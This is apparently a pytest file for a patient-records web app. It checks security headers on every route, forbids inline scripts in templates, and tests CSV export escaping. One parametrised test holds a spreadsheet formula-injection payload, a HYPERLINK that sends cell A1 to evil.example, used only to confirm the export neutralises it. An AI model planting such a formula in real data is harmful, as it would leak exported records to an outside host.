"""Security headers on every response, and CSV exports that never carry a live formula."""

from __future__ import annotations

import csv
import io
import re
import uuid

import pytest
from starlette.routing import Mount

from tests.builders import post_login
from tests.e2e.conftest import PASSWORD, Api
from tests.e2e.test_api_records import post, registered
from tests.e2e.test_every_read_is_audited import app_routes

MADE_UP = str(uuid.UUID(int=7))


def assert_secured(answer: object, path: str) -> None:
    headers = answer.headers  # type: ignore[attr-defined]
    policy = headers.get("content-security-policy", "")
    assert "frame-ancestors 'none'" in policy, (path, dict(headers))
    assert "default-src 'none'" in policy, path
    assert headers.get("x-content-type-options") == "nosniff", path
    assert headers.get("referrer-policy") == "no-referrer", path
    if not path.startswith("/static/"):
        assert headers.get("cache-control") == "no-store", path


def concrete(path: str) -> str:
    return re.sub(r"\{[^}]+\}", MADE_UP, path)


def test_every_route_answers_with_the_security_headers(api: Api) -> None:
    routes = app_routes(api.client.app)
    seen = 0
    for route in routes:
        if isinstance(getattr(route, "original_route", route), Mount):
            path = f"{route.path}/tandem.css"
            answer = api.client.get(path)
            assert answer.status_code == 200, path
            assert_secured(answer, path)
            seen += 1
            continue
        path = concrete(route.path)
        methods = sorted(getattr(route, "methods", None) or {"GET"})
        for method in methods:
            if method == "HEAD":
                continue
            for headers in ({}, api.auth("therapist@test")):
                answer = api.client.request(
                    method, path, headers=headers, json={}, follow_redirects=False
                )
                assert_secured(answer, f"{method} {path} -> {answer.status_code}")
                seen += 1
    assert len(routes) > 80 and seen >= 2 * (len(routes) - 1)
    # A path no route knows is answered with them too.
    assert_secured(api.client.get("/no/such/page"), "/no/such/page")


def test_pages_pdf_and_api_answers_with_patient_data_are_never_stored(api: Api) -> None:
    patient = registered(api)
    signed_in = post_login(api.client, "therapist@test", PASSWORD, follow_redirects=False)
    assert signed_in.status_code == 303, signed_in.text
    for path in (f"/patients/{patient}", f"/patients/{patient}/report.pdf"):
        answer = api.client.get(path)
        assert answer.status_code == 200, (path, answer.text[:500])
        assert_secured(answer, path)
    api.client.cookies.clear()
    view = api.client.get(f"/patients/{patient}/view", headers=api.auth("therapist@test"))
    assert view.status_code == 200 and view.json()
    assert_secured(view, "/patients/{id}/view")


def test_the_pages_load_no_script_and_no_inline_style() -> None:
    """The policy forbids both, so a template that used them would break in a browser."""
    from api.web import HERE

    for template in (HERE / "templates").glob("*.html"):
        text = template.read_text()
        assert "<script" not in text, template.name
        assert "<style" not in text and " style=" not in text, template.name
        assert not re.search(r"\son[a-z]+=", text), template.name


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_break_the_glass_reason_comes_out_of_the_csv_export_as_text(api: Api, start: str) -> None:
    patient = registered(api)
    reason = f'{start}HYPERLINK("https://evil.example/?d="&A1,"unresponsive; need meds")'
    emergency = post(api, "pcp@test", f"/patients/{patient}/break-glass", {"reason": reason})
    assert emergency.status_code == 200, emergency.text
    api.services.reader.index.wait_for(api.position())
    exported = api.client.get(
        "/compliance/access",
        params={"patient_id": patient, "format": "csv"},
        headers=api.auth("compliance@test"),
    )
    assert exported.status_code == 200, exported.text
    assert_secured(exported, "/compliance/access?format=csv")
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    reasons = [r["emergency_reason"] for r in rows if r["emergency_reason"]]
    assert reasons == ["'" + reason], reasons
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_the_csv_writer_quotes_every_formula_start_and_leaves_other_cells_alone() -> None:
    """Stored text is stripped of leading whitespace, so a tab or CR start reaches the
    writer only from text stored before that rule, or from a later field that keeps it."""
    from api.exports import cell

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert cell(f"{start}1+1") == f"'{start}1+1"
    assert cell(["=a", "b"]) == "'=a|b"
    assert cell("unresponsive = urgent") == "unresponsive = urgent"
    assert cell(-3) == -3 and cell(None) is None
